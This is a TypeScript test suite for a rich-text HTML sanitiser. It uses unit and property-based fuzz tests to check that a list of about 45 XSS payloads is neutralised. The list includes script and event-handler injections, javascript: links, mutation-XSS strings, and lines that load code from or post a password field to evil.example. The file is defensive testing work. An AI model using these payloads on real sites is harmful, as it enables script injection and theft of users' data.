import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanRichText } from './clean-rich-text.ts'

describe('cleanRichText', () => {
  it.each([
    '<p>Hello <strong>Mei</strong>, <em>welcome</em>.</p>',
    '<h2>One</h2><h3>Two</h3><p>a<br />b</p>',
    '<ul><li><p>a</p></li><li><p>b</p><ol><li><p>c</p></li></ol></li></ul>',
    '<p><a href="https://example.com/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">Go</a></p>',
    '<p><a href="mailto:mei@example.com" target="_blank" rel="noopener noreferrer">Write</a></p>',
    '<p>{{company}} <a href="{{link}}" target="_blank" rel="noopener noreferrer">Go</a></p>',
    '<p>1 &lt; 2 &amp; 3 &gt; 2, 李伟 👩‍👧</p>',
  ])('leaves as it is what our editor writes: %s', (html) => {
    expect(cleanRichText(html)).toBe(html)
  })

  it.each([
    ['<b>a</b><i>b</i>', '<strong>a</strong><em>b</em>'],
    ['<h1>a</h1>', '<h2>a</h2>'],
    ['<p style="position:fixed" class="x" id="y" onclick="z()">a</p>', '<p>a</p>'],
    ['<a href="/admin">a</a>', 'a'],
    ['<a>a</a>', 'a'],
    ['<table><tr><td>a</td></tr></table>', 'a'],
    ['<!-- a --><p>b</p>', '<p>b</p>'],
    ['<p>not closed', '<p>not closed</p>'],
  ])('%s becomes %s', (html, clean) => {
    expect(cleanRichText(html)).toBe(clean)
  })
})

/** What has been tried on other products, and what parsers disagree about. */
const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/who-reads.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  '<p style="background:url(javascript:alert(1))">a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="JaVaScRiPt:alert(1)">a</a>',
  '<a href="java\nscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="{{link}}javascript:alert(1)">a</a>',
  '<a href="https://a.example" onmouseover="alert(1)">a</a>',
  '<a href="https://a.example"\n/onclick=alert(1)>a</a>',
  '<a href=\'https://a.example/"onclick="alert(1)\'>a</a>',
  '<p/onclick=alert(1)>a</p>',
  '<p title="`onclick=alert(1)`">a</p>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  '<%= system("id") %>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<p>\u2028<script\u2028>alert(1)</script></p>',
  '＜script＞alert(1)＜/script＞',
]

const tag = /<\/?([^\s>/]+)([^>]*)>/g
const attributes =
  /^( href="(?:https?:\/\/|mailto:|\{\{\w+\}\}")[^"<>]*"? target="_blank" rel="noopener noreferrer")?( \/)?$/
const tags = new Set(['p', 'br', 'strong', 'em', 'h2', 'h3', 'ul', 'ol', 'li', 'a'])

/** Looked at without any parser: every bracket belongs to a mark of the list, with no attribute but a link's. */
function expectClean(html: string): void {
  for (const [mark, name = '', rest = ''] of html.matchAll(tag)) {
    expect(tags, mark).toContain(name)
    expect(rest, mark).toMatch(attributes)
    if (name !== 'a') expect(rest, mark).toMatch(/^( \/)?$/)
  }
  expect(html.replaceAll(tag, '')).not.toMatch(/[<>]/)
}

describe('what is cleaned', () => {
  it.each(attacks)('holds nothing that acts: %s', (attack) => {
    expectClean(cleanRichText(attack))
    expectClean(cleanRichText(`<ul><li><p>${attack}`))
    expectClean(cleanRichText(`<p title="${attack}">${attack}</p>`))
  })

  const piece = fc.oneof(
    fc.constantFrom(...attacks),
    fc.constantFrom('<p>', '</p>', '<a href="', '">', '<li>', '</a>', '<!--', '-->', '{{link}}', '&lt;', '&', '"', '<'),
    fc.string({ unit: 'grapheme', maxLength: 6 }),
  )
  const soup = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))

  it('holds nothing that acts, whatever it is made of', () => {
    fc.assert(fc.property(soup, (html) => expectClean(cleanRichText(html))))
  })

  it('stays as it is when it is cleaned again', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const once = cleanRichText(html)
        expect(cleanRichText(once)).toBe(once)
      }),
    )
  })

  it('has no entry of a list inside another, also where a broken link stood between them', () => {
    expect(cleanRichText('<li><a href="<link rel="stylesheet" href="https://evil.example/x.css"><li>')).toBe(
      '<li></li><li></li>',
    )
  })

  it('is done at once, however deep it is nested', () => {
    const began = performance.now()
    const deep = cleanRichText(`${'<ul><li>'.repeat(5000)}a`)
    expect(performance.now() - began).toBeLessThan(5000)
    expect(deep.match(/<ul>/g)?.length ?? 0).toBeLessThan(13)
  })
})
